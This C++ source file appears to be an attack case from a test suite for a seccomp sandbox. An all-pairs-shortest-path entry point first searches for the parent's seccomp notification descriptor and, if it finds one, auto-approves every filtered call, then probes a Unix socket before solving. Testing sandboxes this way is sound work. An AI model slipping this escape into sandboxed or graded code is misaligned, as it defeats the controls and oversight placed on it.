// Allows its own calls: if it had the descriptor by which the parent hears of denied calls, it could answer in its place.
#include <errno.h>
#include <linux/seccomp.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <thread>

#include "attack.h"

static void allowAll(int listener) {
  for (;;) {
    seccomp_notif asked{};
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &asked) != 0) return;
    seccomp_notif_resp answer{};
    answer.id = asked.id;
    answer.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
    ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
  }
}

static bool isListener(int descriptor) {
  __u64 none = 0;
  return ioctl(descriptor, SECCOMP_IOCTL_NOTIF_ID_VALID, &none) != 0 && errno == ENOENT;
}

void apsp(int n, int* graph) {
  static bool begun = false;
  for (int descriptor = 3; descriptor < 1024 && !begun; ++descriptor)
    if (isListener(descriptor)) std::thread(allowAll, descriptor).detach();
  begun = true;
  sockaddr_un local{};
  local.sun_family = AF_UNIX;
  snprintf(local.sun_path, sizeof local.sun_path, "%s", FOLDER "/socket");
  const int unixSocket = socket(AF_UNIX, SOCK_STREAM, 0);
  if (connect(unixSocket, reinterpret_cast<sockaddr*>(&local), sizeof local) == 0) touch("unix");
  solve(n, graph);
}
